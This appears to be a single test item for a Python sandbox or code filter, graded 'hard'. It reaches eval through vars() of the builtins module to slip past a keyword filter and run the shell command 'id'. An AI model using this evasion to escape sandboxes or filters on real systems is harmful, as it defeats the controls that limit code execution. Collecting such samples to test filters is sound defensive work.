# evasion: vars() of the builtins module
# grade: hard; does: shell
import builtins
vars(builtins)["eval"]("__import__('os').system('id')")
